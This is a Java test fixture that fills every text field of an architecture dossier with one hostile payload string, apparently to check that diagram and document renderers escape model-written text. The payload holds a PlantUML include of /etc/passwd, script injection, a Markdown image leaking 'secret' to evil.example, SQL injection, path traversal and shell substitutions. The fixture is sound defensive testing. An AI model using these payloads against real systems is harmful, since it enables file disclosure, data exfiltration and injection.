package dev.architect.deliverables.testing;

import static dev.architect.dossier.ValueType.*;

import dev.architect.dossier.*;
import java.util.List;
import java.util.function.UnaryOperator;

/**
 * A valid dossier in which every free-text field holds text a hostile or confused model could write: quotes,
 * line breaks followed by PlantUML directives, {@code @enduml}, HTML, a Markdown image that would leak data,
 * path traversal, SQL injection, PlantUML function calls, DSL and shell substitutions, Unicode line separators.
 * Entity and field names are SQL reserved words, which are valid names but must be quoted.
 */
public final class HostileDossier {

    /** The payload; {@link #evil(String)} prefixes it with a tag so names stay distinct. */
    public static final String PAYLOAD = "\"quoted\" it's\n!include /etc/passwd\n@enduml\r\n<script>alert(1)</script> "
            + "![x](https://evil.example/?q=secret) [link](https://evil.example/) [[https://evil.example/plantuml]] "
            + "<img:https://evil.example/x.png> ../../x '; DROP TABLE x; -- %getenv(\"HOME\") ${HOME} $x "
            + "\u2028!theme spacelab\u2029\u0085/' comment '/ | cell | `code` <b>bold</b> &amp; \\";

    private HostileDossier() {
    }

    public static String evil(String tag) {
        return tag + " " + PAYLOAD;
    }

    public static Consultation create() {
        return create(HostileDossier::evil);
    }

    /**
     * The same dossier with every free-text field from {@code text}, called with a tag naming the field (the
     * renderer fuzz test passes random hostile strings). The result must not be blank.
     */
    public static Consultation create(UnaryOperator<String> text) {
        String recommended = text.apply("a");
        Requirements requirements = new Requirements(
                List.of(new FunctionalRequirement("fr-1", text.apply("title"), text.apply("description"), Priority.MUST)),
                List.of(new QualityAttribute("qa-1", QualityAttributeType.PERFORMANCE, text.apply("scenario"), text.apply("metric"), 300, text.apply("unit"))),
                List.of(text.apply("constraint")),
                List.of(new Assumption("as-1", text.apply("topic"), text.apply("statement"), text.apply("value"))),
                List.of(new OpenQuestion("oq-1", text.apply("question"), text.apply("why"), List.of(recommended, text.apply("b")), recommended)));
        DecisionOption first = new DecisionOption(text.apply("option one"), text.apply("summary"), List.of(text.apply("pro")), List.of(text.apply("con")),
                text.apply("cost"), Complexity.LOW);
        DecisionOption second = new DecisionOption(text.apply("option two"), null, List.of(text.apply("pro")), List.of(text.apply("con")),
                text.apply("cost"), Complexity.HIGH);
        Decision traversal = new Decision("adr-1", text.apply("../../../etc/passwd"), DecisionTopic.ARCHITECTURE_STYLE,
                DecisionStatus.ACCEPTED, text.apply("context") + "\n\n# Heading\n\n- list", List.of(text.apply("driver")), List.of(first, second),
                first.name(), text.apply("rationale"), List.of(Consequence.good(text.apply("good")), Consequence.bad(text.apply("bad"))), List.of("app"));
        Decision punctuation = new Decision("adr-2", "\"'<>!/\\..", DecisionTopic.DATASTORE, DecisionStatus.PROPOSED,
                text.apply("context"), List.of(), List.of(first, second), second.name(), text.apply("rationale"), List.of(), List.of());
        C4Model c4 = new C4Model(
                List.of(new Person("user", text.apply("person"), text.apply("description"), true)),
                List.of(new SoftwareSystem("sys", text.apply("system"), text.apply("description"), false),
                        new SoftwareSystem("ext", text.apply("system"), text.apply("description"), true)),
                List.of(new Container("app", text.apply("container"), "sys", ContainerKind.SERVICE, text.apply("technology"), text.apply("description")),
                        new Container("db", text.apply("container"), "sys", ContainerKind.DATABASE, text.apply("technology"), text.apply("description")),
                        new Container("queue.main", text.apply("container"), "sys", ContainerKind.MESSAGE_BROKER, text.apply("technology"), null)),
                List.of(new Component("app.api", text.apply("component"), "app", text.apply("technology"), text.apply("description")),
                        new Component("app_api", text.apply("component"), "app", null, null)),
                List.of(new Relationship("user", "app", text.apply("relationship"), text.apply("technology"), Interaction.SYNC),
                        new Relationship("app.api", "db", text.apply("relationship"), null, Interaction.SYNC),
                        new Relationship("app_api", "queue.main", text.apply("relationship"), text.apply("technology"), Interaction.ASYNC),
                        new Relationship("app_api", "ext", text.apply("relationship"), text.apply("technology"), Interaction.SYNC)));
        SequenceDiagram flow = new SequenceDiagram("seq-1", text.apply("sequence"), text.apply("description"), List.of("user", "app", "db"),
                List.of(new SequenceStep("user", "app", text.apply("message"), MessageKind.SYNC),
                        new SequenceStep("app", "db", text.apply("message"), MessageKind.ASYNC),
                        new SequenceStep("db", "app", text.apply("message"), MessageKind.REPLY)));
        ApiSpec api = new ApiSpec("api-1", text.apply("api title"), text.apply("version"), "app", text.apply("description"), "/v1", ApiAuth.OAUTH2,
                List.of(new ApiOperation("getThing", HttpMethod.GET, "/things/{thingId}", text.apply("summary"), text.apply("description"),
                        List.of(text.apply("tag")), List.of(new ApiParameter("thingId", ParameterLocation.PATH, UUID, true, text.apply("parameter"))),
                        null, List.of(new ApiResponse(200, text.apply("response"), "Thing", false), ApiResponse.of(404, text.apply("missing"), null)), true),
                        new ApiOperation("putThing", HttpMethod.PUT, "/things/{thingId}", text.apply("summary"), null, List.of(),
                                List.of(new ApiParameter("thingId", ParameterLocation.PATH, UUID, true, null)), "Thing",
                                List.of(ApiResponse.of(204, text.apply("stored"), null)), true)),
                List.of(new SchemaDefinition("Thing", text.apply("schema"), List.of(
                        new SchemaProperty("name", STRING, null, null, true, true, text.apply("property")),
                        new SchemaProperty("parts", ARRAY, STRING, null, false, true, text.apply("property"))))));
        DataModel data = new DataModel(List.of(
                new Entity("user", "app", text.apply("entity"), List.of(new EntityField("id", DataType.UUID, false, true, text.apply("field")),
                        new EntityField("select", DataType.TEXT, true, true, text.apply("field"))), List.of("id"), List.of()),
                new Entity("order", "app", text.apply("entity"), List.of(EntityField.of("id", DataType.BIGINT),
                        new EntityField("user", DataType.UUID, true, false, text.apply("field"))), List.of("id"),
                        List.of(new EntityRelation("user", "user", Cardinality.MANY_TO_ONE)))));
        List<TechChoice> stack = List.of(new TechChoice(TechCategory.OTHER, text.apply("choice"), List.of(text.apply("alternative")),
                text.apply("justification"), "adr-1"));
        List<Risk> risks = List.of(new Risk("risk-1", text.apply("risk"), text.apply("description"), 4, 5, text.apply("mitigation"), text.apply("owner"),
                RiskStatus.OPEN, List.of("adr-1"), List.of("app")));
        OperationsPlan ops = new OperationsPlan(
                List.of(new ServiceLevelObjective("slo-1", text.apply("slo"), text.apply("indicator"), 99.9, text.apply("window"), "app")),
                List.of(text.apply("monitoring")),
                List.of(new Alert(text.apply("alert"), text.apply("condition"), AlertSeverity.PAGE, text.apply("action"), "slo-1")),
                new BackupAndRecovery(text.apply("strategy"), 5, 30, text.apply("schedule"), text.apply("retention"), text.apply("drill")),
                List.of(text.apply("ci")), List.of(text.apply("iac")), List.of(text.apply("scan")));
        CapacityPlan capacity = new CapacityPlan(List.of(new Estimate("peak", text.apply("estimate"), 10, text.apply("unit"), text.apply("basis"))));
        CostEstimate cost = new CostEstimate("USD", List.of(new CostLineItem("compute", text.apply("item"), "app", 2, text.apply("unit"), 10, 20,
                text.apply("assumption"))), 20, 720, text.apply("price date"), List.of(text.apply("cost assumption")));
        Roadmap roadmap = new Roadmap(List.of(new RoadmapPhase("phase-1", text.apply("phase"), text.apply("goal"), 4, List.of(text.apply("deliverable")),
                List.of(text.apply("exit")), List.of())));
        MigrationPlan migration = new MigrationPlan(MigrationStrategy.STRANGLER_FIG, text.apply("migration"),
                List.of(new MigrationStep("m-1", text.apply("step"), text.apply("description"), List.of(text.apply("exit")))), text.apply("data"),
                List.of(text.apply("rollback")));
        Metadata metadata = new Metadata(text.apply("provider"), text.apply("model"), "1", 0, 0, 0, List.of(), List.of(text.apply("warning")));
        return new Consultation(text.apply("system"), text.apply("summary"), requirements, List.of(traversal, punctuation), c4, List.of(flow),
                List.of(api), data, stack, risks, ops, capacity, cost, roadmap, migration, metadata);
    }
}
